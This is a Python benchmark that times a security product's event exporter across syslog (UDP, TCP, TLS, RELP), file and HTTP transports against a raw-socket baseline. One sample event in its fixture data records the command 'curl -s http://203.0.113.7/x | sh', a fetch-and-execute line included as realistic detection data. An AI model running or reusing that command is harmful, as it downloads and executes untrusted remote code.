"""Export: events/second formatted and sent per format and transport, beside the raw send
of the same bytes, measured in the same run.

    python -m bench.export [--events 20000] [--batch 500]

For each format and each transport (syslog over UDP, TCP, TLS and RELP; an NDJSON file; an
HTTP POST webhook) the exporter's own encoder (mapping, format, RFC 5424 envelope, framing)
and transport send to a receiver in another process (bench/export_sink.py, on the load
generator's core).  The floor sends the very bytes the exporter produced, already encoded,
through a bare socket of the same kind in the same batches (for RELP: the same frames, each
window waiting for its acknowledgements; for HTTP: the same request; for the file: the same
lines written and fsync'ed once per batch).  Each measurement then waits until the receiver
has everything; UDP reports what the kernel dropped.  Formatting alone (the target's
records and messages, batch by batch, nothing sent) is timed beside it, against the same
floor.  Prints a table and writes
bench/results/export.json.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime as dt
import json
import os
import socket
import ssl
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from bench.certs import make_certs
from bench.common import LOAD_CPU, ROOT, on_server_core, taskset
from garrison.common.catalogue import CATALOGUE, validate
from garrison.server.export.config import TargetOptions
from garrison.server.export.confinement import Confinement
from garrison.server.export.encoding import TargetEncoder
from garrison.server.export.formats import FORMATS
from garrison.server.export.mapping import StationInfo
from garrison.server.export.target import Target, make_transport

RESULTS = Path(__file__).resolve().parent / "results"
STATION = StationInfo(
    uuid="4C4C4544-0033-4A10-8051-B5C04F4E4E31", hostname="ws-042", address="10.1.2.42"
)


def sample(count: int) -> list[tuple[str, int, dt.datetime, dict[str, Any]]]:
    now = dt.datetime.now(dt.UTC)
    kinds = [
        (
            "threat_detected",
            {
                "id": 42,
                "virus": "Eicar-Test-Signature",
                "action": "quarantine",
                "object": "/home/alice/Downloads/eicar.com",
                "time": now,
            },
        ),
        (
            "firewall_event",
            {
                "time": now,
                "event": "blocked",
                "protocol": "TCP",
                "source_address": "10.1.2.42",
                "source_port": 51515,
                "target_address": "203.0.113.7",
                "target_port": 445,
            },
        ),
        (
            "process_started",
            {
                "time": now,
                "unique_pid": "981",
                "file_path": "/usr/bin/curl",
                "command_line": "curl -s http://203.0.113.7/x | sh",
                "user": "alice",
                "sha256": "ab" * 32,
            },
        ),
        (
            "audit",
            {
                "time": now,
                "domain": "job",
                "action": "job.create",
                "target": "77",
                "user": "admin",
                "result": "Success",
            },
        ),
    ]
    out = []
    for i in range(count):
        name, data = kinds[i % len(kinds)]
        declared = CATALOGUE[name]
        out.append(
            (
                name,
                4 if name == "threat_detected" else 2,
                now,
                validate(
                    declared,
                    {
                        k: (v.isoformat() if isinstance(v, dt.datetime) else v)
                        for k, v in data.items()
                    },
                ),
            )
        )
    return out


TRANSPORTS = ("udp", "tcp", "tls", "relp", "file", "http")
RELP_WINDOW = 256  # RelpTransport's default window


class Sink:
    """The receiver process (bench/export_sink.py) and its counts."""

    def __init__(self, workdir: Path) -> None:
        self.certs = make_certs(workdir / "certs")
        self.process = subprocess.Popen(
            [
                *taskset(LOAD_CPU),
                *(sys.executable, "-m", "bench.export_sink"),
                *(str(self.certs.cert), str(self.certs.key)),
            ],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            cwd=ROOT,
        )
        if self.process.stdout is None:
            raise RuntimeError("the sink process has no standard output")
        line = self.process.stdout.readline()
        if not line:
            raise RuntimeError("the sink process did not start")
        self.ports: dict[str, int] = json.loads(line)
        self.control = socket.create_connection(("127.0.0.1", self.ports["control"]))
        self.control_file = self.control.makefile("rb")

    def stats(self) -> dict[str, int]:
        self.control.sendall(b"stats\n")
        counts: dict[str, int] = json.loads(self.control_file.readline())
        return counts

    def wait_for(self, key: str, value: int, seconds: float = 30.0) -> int:
        """Wait until the count reaches value (or stops moving); returns the count."""
        deadline = time.monotonic() + seconds
        last, still = -1, 0
        while time.monotonic() < deadline:
            now = self.stats()[key]
            if now >= value:
                return now
            still = still + 1 if now == last else 0
            if still >= 20:  # 1 s without progress: nothing more is coming
                return now
            last = now
            time.sleep(0.05)
        return self.stats()[key]

    def close(self) -> None:
        self.control_file.close()
        self.control.close()
        if self.process.stdin is not None:
            self.process.stdin.close()
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


def target(fmt: str, transport: str, sink: Sink, path: Path) -> Target:
    options = TargetOptions(
        aggregation_window_seconds=0, heartbeat_seconds=0, tls_ca=str(sink.certs.ca)
    )
    port = sink.ports.get(transport, 0)
    return Target(
        1,
        "bench",
        fmt,
        transport,
        "127.0.0.1",
        port,
        str(path),
        f"http://127.0.0.1:{sink.ports['http']}/ingest",
        options,
        dt.datetime.now(dt.UTC),
    )


# What the receiver counts for each transport, and how much of it one message is.
def delivered_key(transport: str) -> str:
    return {
        "udp": "udp_datagrams",
        "tcp": "tcp_bytes",
        "tls": "tls_bytes",
        "relp": "relp_messages",
        "http": "http_bytes",
    }[transport]


def ndjson(messages: list[bytes]) -> bytes:
    """The lines the file and HTTP transports write: one message a line."""
    return b"".join(m.rstrip(b"\n") + b"\n" for m in messages)


def expected(transport: str, messages: list[bytes]) -> int:
    """What the receiver counts once it has everything: messages, or bytes."""
    if transport in ("udp", "relp"):
        return len(messages)
    if transport in ("http", "file"):
        return len(ndjson(messages))
    return sum(len(m) for m in messages)


def batches(messages: list[bytes], batch: int) -> list[list[bytes]]:
    return [messages[i : i + batch] for i in range(0, len(messages), batch)]


def floor_send(
    transport: str,
    messages: list[bytes],
    batch: int,
    sink: Sink,
    path: Path,
    settle: Callable[[], None],
) -> float:
    """Seconds to send the same bytes through a bare socket (or file) of the same kind;
    ``settle`` waits until the receiver has them all, before the socket is closed."""
    groups = batches(messages, batch)
    address = ("127.0.0.1", sink.ports.get(transport, 0))
    if transport == "udp":
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        started = time.perf_counter()
        for group in groups:
            for message in group:
                udp.sendto(message, address)
        seconds = time.perf_counter() - started
        settle()
        udp.close()
        return seconds
    if transport == "file":
        chunks = [ndjson(g) for g in groups]
        started = time.perf_counter()
        with open(path, "ab") as handle:
            for chunk in chunks:
                handle.write(chunk)
                handle.flush()
                os.fsync(handle.fileno())
        return time.perf_counter() - started
    raw = socket.create_connection(address)
    sock: socket.socket = raw
    if transport == "tls":
        context = ssl.create_default_context(cafile=str(sink.certs.ca))
        sock = context.wrap_socket(raw, server_hostname="127.0.0.1")
    try:
        if transport in ("tcp", "tls"):
            chunks = [b"".join(g) for g in groups]
            started = time.perf_counter()
            for chunk in chunks:
                sock.sendall(chunk)
            return time.perf_counter() - started
        if transport == "relp":
            return relp_floor(sock, groups)
        return http_floor(sock, groups, address[1])
    finally:
        settle()
        if isinstance(sock, ssl.SSLSocket):
            drain(sock)
        sock.close()


def drain(sock: ssl.SSLSocket) -> None:
    """Read the receiver's session tickets, so closing sends no reset."""
    sock.setblocking(False)
    with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLError, OSError):
        while sock.recv(65536):
            pass


def relp_floor(sock: socket.socket, groups: list[list[bytes]]) -> float:
    """The same RELP frames, each window sent at once and its acknowledgements awaited."""
    sock.sendall(open_frame())
    read_answers(sock, 1)
    windows: list[tuple[bytes, int]] = []
    txnr = 1
    for group in groups:
        for i in range(0, len(group), RELP_WINDOW):
            frames: list[bytes] = []
            for message in group[i : i + RELP_WINDOW]:
                txnr += 1
                data = message.rstrip(b"\n")
                frames.append(b"%d syslog %d %s\n" % (txnr, len(data), data))
            windows.append((b"".join(frames), len(frames)))
    started = time.perf_counter()
    for window, count in windows:
        sock.sendall(window)
        read_answers(sock, count)
    return time.perf_counter() - started


def open_frame() -> bytes:
    offers = b"relp_version=0\nrelp_software=bench\ncommands=syslog"
    return b"1 open %d %s\n" % (len(offers), offers)


def read_answers(sock: socket.socket, count: int) -> None:
    """Read count answers; each of the sink's answers ends with its only newline except
    the open answer, whose offers hold three more."""
    seen, pending = 0, b""
    while seen < count:
        chunk = sock.recv(1 << 16)
        if not chunk:
            raise RuntimeError("the RELP sink closed the connection")
        pending += chunk
        seen = pending.count(b" rsp ")
    # An answer may still be arriving in pieces; wait for its final newline.
    while not pending.endswith(b"\n"):
        pending += sock.recv(1 << 16)


def http_floor(sock: socket.socket, groups: list[list[bytes]], port: int) -> float:
    requests = []
    for group in groups:
        body = ndjson(group)
        requests.append(
            b"POST /ingest HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
            b"Content-Type: application/x-ndjson\r\nContent-Length: %d\r\n\r\n%s"
            % (port, len(body), body)
        )
    started = time.perf_counter()
    for request in requests:
        sock.sendall(request)
        answer = b""
        while not answer.endswith(b"\r\n\r\n"):
            chunk = sock.recv(4096)
            if not chunk:
                raise RuntimeError("the HTTP sink closed the connection")
            answer += chunk
    return time.perf_counter() - started


def measure(
    fmt: str,
    transport_name: str,
    events: list[tuple[str, int, dt.datetime, dict[str, Any]]],
    batch: int,
    sink: Sink,
    workdir: Path,
) -> dict[str, Any]:
    path = workdir / f"{fmt}-{transport_name}.ndjson"
    chosen = target(fmt, transport_name, sink, path)
    # As the target's consumer does: one encoder per target, a batch's records, then its
    # messages.
    chosen_encoder = TargetEncoder(chosen)

    def formatted(part: list[tuple[str, int, dt.datetime, dict[str, Any]]]) -> list[bytes]:
        return chosen_encoder.encode_batch(
            [chosen_encoder.record(t, sev, when, data, STATION) for t, sev, when, data in part]
        )

    # Formatting alone (records and messages, nothing sent), beside the floor's send.
    started = time.perf_counter()
    for i in range(0, len(events), batch):
        formatted(events[i : i + batch])
    format_seconds = time.perf_counter() - started
    # The sinks listen on loopback: the bench is the operator, and allows it.
    transport = make_transport(chosen, Confinement((workdir,), allow_local=True))
    key = delivered_key(transport_name) if transport_name != "file" else ""
    before = sink.stats()[key] if key else 0
    produced: list[bytes] = []
    started = time.perf_counter()
    for i in range(0, len(events), batch):
        messages = formatted(events[i : i + batch])
        transport.send(messages)
        produced.extend(messages)
    garrison_seconds = time.perf_counter() - started
    transport.close()
    want = expected(transport_name, produced)
    got = sink.wait_for(key, before + want) - before if key else path.stat().st_size
    # Everything sent over a stream must have arrived; a datagram may be dropped.
    if transport_name != "udp" and got != want:
        raise RuntimeError(f"{fmt} over {transport_name}: the receiver got {got} of {want}")
    lost = want - got if transport_name == "udp" else 0
    floor_path = workdir / f"{fmt}-{transport_name}-floor.ndjson"
    before = sink.stats()[key] if key else 0

    floor_lost = 0

    def settle() -> None:
        nonlocal floor_lost
        if not key:
            return  # the file is written and fsync'ed before floor_send returns
        got = sink.wait_for(key, before + want) - before
        if transport_name == "udp":
            floor_lost = want - got
        elif got != want:
            raise RuntimeError(f"floor over {transport_name}: the receiver got {got} of {want}")

    floor_seconds = floor_send(transport_name, produced, batch, sink, floor_path, settle)
    n = len(events)
    return {
        "format": fmt,
        "transport": transport_name,
        "events": n,
        "bytes": sum(len(m) for m in produced),
        "lost": lost,
        "floor_lost": floor_lost,
        "floor_events_per_second": round(n / floor_seconds, 1),
        "garrison_events_per_second": round(n / garrison_seconds, 1),
        "ratio": round(floor_seconds / garrison_seconds, 4),
        "format_events_per_second": round(n / format_seconds, 1),
        "format_ratio": round(floor_seconds / format_seconds, 4),
    }


def run(count: int, batch: int, workdir: Path | None = None) -> dict[str, Any]:
    events = sample(count)
    with contextlib.ExitStack() as stack:
        if workdir is None:
            workdir = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="gexport-")))
        sink = Sink(workdir)
        stack.callback(sink.close)
        stack.enter_context(on_server_core())
        rows = [
            measure(fmt, transport, events, batch, sink, workdir)
            for transport in TRANSPORTS
            for fmt in FORMATS
        ]
    return {
        "scenario": "export",
        "transports": list(TRANSPORTS),
        "batch": batch,
        "formats": rows,
        "date": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description="export rate per format and transport")
    parser.add_argument("--events", type=int, default=20000)
    parser.add_argument("--batch", type=int, default=500)
    parser.add_argument("--out", type=Path, default=RESULTS / "export.json")
    args = parser.parse_args()
    result = run(args.events, args.batch)
    print(
        f"{'format':<12}{'transport':<10}{'events':>8}{'lost':>6}{'floor ev/s':>14}"
        f"{'garrison ev/s':>16}{'ratio':>8}{'format ev/s':>14}{'fmt ratio':>10}"
    )
    for row in result["formats"]:
        print(
            f"{row['format']:<12}{row['transport']:<10}{row['events']:>8}{row['lost']:>6}"
            f"{row['floor_events_per_second']:>14}{row['garrison_events_per_second']:>16}"
            f"{row['ratio']:>8}{row['format_events_per_second']:>14}{row['format_ratio']:>10}"
        )
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(result, indent=2) + "\n")


if __name__ == "__main__":
    main()
